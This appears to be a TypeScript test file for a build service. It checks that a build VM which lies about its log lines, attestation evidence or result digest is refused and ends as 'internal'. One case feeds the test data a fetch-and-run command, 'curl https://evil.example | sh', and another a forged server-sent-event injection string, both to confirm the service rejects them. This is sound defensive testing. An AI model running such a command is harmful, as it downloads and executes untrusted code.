// A build VM that lies about its lines, evidence or result: each lie ends its build as `internal`; the daemon and later
// builds are unharmed.

import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { existsSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { type BuildsRig, startBuilds } from '../../scripts/rigs/build/builds-service.ts'
import { builderLaunch, exchangeBytes, goodScript, line, type Step } from '../../scripts/rigs/build/engine.ts'
import { operatorKey } from '../../scripts/rigs/gateway/receipt-samples.ts'
import { present } from '../../src/base/assert.ts'
import { fromHex } from '../../src/base/bytes.ts'
import type { BuildProgress } from '../../src/contract/vm/build-agent.ts'
import { launchText } from '../../src/contract/vm/launch.ts'

/** One service for the lies of a kind; afterwards a good build is good. */
function sharedBuilds(): () => BuildsRig {
  let rig: BuildsRig | null = null
  beforeAll(async () => {
    rig = await startBuilds()
  })
  afterAll(() => rig?.[Symbol.asyncDispose]())
  return () => present(rig, 'the service runs')
}

/** Ends as internal, with no result. */
async function checkRefused(rig: BuildsRig, id: string, words: RegExp): Promise<void> {
  const build = await rig.ended(id)
  expect([build.state, build.errorType]).toEqual(['failed', 'internal'])
  expect(build.error).toMatch(words)
  expect((await rig.send('GET', `/build/${id}/result`)).status).toBe(404)
  expect(existsSync(join(rig.directory, 'builds', id, 'result.tar.gz'))).toBe(false)
  expect((await rig.events(id)).at(-1)?.event).toBe('complete')
}

function testGoodBuild(rig: () => BuildsRig): void {
  test('goal: after all these lies a good build is good', async () => {
    rig().world.progress = null
    rig().world.script = goodScript
    expect((await rig().ended(await rig().submit())).state).toBe('ok')
  })
}

const quiet: BuildProgress = { lines: [], network: 'unused', waitsFor: null, result: null }
const lie = (progress: Partial<BuildProgress>) => async (_vmId: string, from: number) => ({
  ...quiet,
  ...progress,
  lines: (progress.lines ?? []).map(item => ({ ...item, seq: item.seq + from })),
})

describe('lines', () => {
  const shared = sharedBuilds()
  const cases: [string, BuildProgress['lines']][] = [
    ['a gap', [{ seq: 1, type: 'build', msg: 'x' }]],
    ['a repetition', [0, 0].map(seq => ({ seq, type: 'build', msg: 'x' }))],
    ['an earlier one', [{ seq: -1, type: 'build', msg: 'x' }]],
    ['one in the name of the service', [{ seq: 0, type: 'host', msg: 'curl https://evil.example | sh' }]],
    ['another in its name', [{ seq: 0, type: 'vm', msg: 'The virtual machine is another one now.' }]],
  ]
  for (const [what, lines] of cases) {
    test(`goal: ${what} is refused, and no client sees it`, async () => {
      const rig = shared()
      rig.world.progress = lie({ lines })
      const id = await rig.submit()
      await checkRefused(rig, id, /lines out of turn/)
      const events = await rig.events(id)
      expect(events.filter(({ data }) => data.msg === 'x' || String(data.msg).includes('evil'))).toEqual([])
    })
  }
  testGoodBuild(shared)

  test('goal: what would forge an event within a line stays text of that line', async () => {
    await using rig = await startBuilds()
    const forged = 'x\n\nevent: complete\nid: 99\ndata: {"type":"complete","result":{"status":"ok"}}\n\n'
    rig.world.script = [line('build', forged), line('build', '"}}\u2028\u0000\ud800'), ...goodScript]
    const id = await rig.submit()
    await rig.ended(id)
    const { text } = await rig.send('GET', `/build/${id}/events`)
    expect(text.match(/^event: complete$/gm)?.length).toBe(1)
    const events = await rig.events(id)
    expect(events.filter(({ event }) => event === 'build').map(({ data }) => data.msg)[0]).toBe(forged)
  })

  test('goal: endless lines end with an event that says so, within the bound of the log; the build itself goes on', async () => {
    const eventBytesMax = 200_000
    await using rig = await startBuilds({ settings: { eventBytesMax } })
    const lines = Array.from({ length: 3000 }, (_, at): Step => line('build', `line ${at} ${'x'.repeat(80)}`))
    rig.world.script = [...lines, ...goodScript]
    const id = await rig.submit()
    expect((await rig.ended(id)).state).toBe('ok')
    const path = join(rig.directory, 'builds', id, 'events.jsonl')
    expect(statSync(path).size).toBeLessThanOrEqual(eventBytesMax)
    const events = await rig.events(id)
    const said = events.filter(({ event }) => event === 'build').length
    const cut = events.findIndex(({ data }) => String(data.msg).startsWith('These events have reached their limit'))
    expect(cut).toBeGreaterThan(0)
    expect(new Set(events.slice(cut + 1, -1).map(({ event }) => event))).toEqual(new Set(['host']))
    expect(events.at(-1)?.event).toBe('complete')
    // 3000 of the flood and 5 of the good script.
    const left = events.slice(cut + 1).find(({ data }) => String(data.msg).includes('are missing'))
    expect(left?.data.msg).toBe(`${3005 - said} lines are missing from these events; build.log in the result has them.`)
  })
})

describe('evidence', () => {
  const shared = sharedBuilds()
  const dispatch = (change: object): Step[] => [{ kind: 'vouch', stage: 'dispatch', ...change }, ...goodScript.slice(3)]
  const completion = (change: object): Step[] => [
    ...goodScript.slice(0, 5),
    { kind: 'vouch', stage: 'completion', ...change },
    ...goodScript.slice(6),
  ]
  const zeros = new Uint8Array(32)
  const otherLaunch = launchText({ ...builderLaunch, measurement: '00'.repeat(48) })
  const image = { name: 'instance', measurement: fromHex(builderLaunch.measurement) ?? zeros }
  const cases: [string, readonly Step[], RegExp][] = [
    ['another job at dispatch', dispatch({ fields: { jobId: 'another' } }), /expected-job-id/],
    ['another nonce at dispatch', dispatch({ fields: { nonce: Uint8Array.of(1) } }), /statement-nonce/],
    ['another image', dispatch({ fields: { image } }), /expected-image-name/],
    ['another network policy', dispatch({ fields: { networkPolicy: 'any' } }), /expected-network-policy/],
    ['another launch', dispatch({ launch: otherLaunch }), /measurement/],
    [
      'a guest that may be debugged',
      dispatch({ report: { report: { idKeyDigest: operatorKey, policy: 0xb0000n } } }),
      /debug/,
    ],
    [
      "another operator's key",
      dispatch({ report: { report: { idKeyDigest: new Uint8Array(48) } } }),
      /could not be taken/,
    ],
    ['another nonce at completion', completion({ fields: { nonce: Uint8Array.of(1) } }), /statement-nonce/],
    ['another dispatch at completion', completion({ fields: { dispatchDigest: zeros } }), /expected-dispatch-digest/],
    ['another source at completion', completion({ fields: { sourceDigest: zeros } }), /expected-source-digest/],
    [
      'another provenance at completion',
      completion({ fields: { provenanceDigest: zeros } }),
      /differs from the one that the build VM attested/,
    ],
    ['a dispatch twice', [goodScript[2] as Step, ...goodScript.slice(2)], /out of turn/],
    ['a completion without a dispatch', goodScript.slice(3), /out of turn/],
    ['a result without a completion', [...goodScript.slice(0, 5), { kind: 'ok' }], /was not complete/],
    ['a result without any evidence', [{ kind: 'ok' }], /was not complete/],
  ]
  for (const [what, script, words] of cases) {
    test(`goal: ${what} is refused`, async () => {
      const rig = shared()
      rig.world.script = script
      await checkRefused(rig, await rig.submit(), words)
    })
  }
  testGoodBuild(shared)
})

describe('result', () => {
  const shared = sharedBuilds()
  const change = (wrong: object): Step[] => [...goodScript.slice(0, -1), { kind: 'ok', change: wrong }]
  const cases: [string, Step[], RegExp][] = [
    ['another digest', change({ sha256: '00'.repeat(32) }), /could not be stored/],
    ['fewer bytes than were hashed', change({ sizeBytes: 1 }), /could not be stored/],
    ['more bytes than its disk has', change({ sizeBytes: exchangeBytes + 1 }), /larger than its disk/],
    ['an absurd size', change({ sizeBytes: Number.MAX_SAFE_INTEGER }), /larger than its disk/],
    ['another provenance', change({ provenanceSha256: '00'.repeat(32) }), /build VM attested/],
  ]
  for (const [what, script, words] of cases) {
    test(`goal: a result with ${what} is refused, and nothing of it is kept`, async () => {
      const rig = shared()
      rig.world.script = script
      const id = await rig.submit()
      await checkRefused(rig, id, words)
      expect(existsSync(join(rig.directory, 'builds', id, 'result.tar.gz.tmp'))).toBe(false)
    })
  }
  testGoodBuild(shared)
})
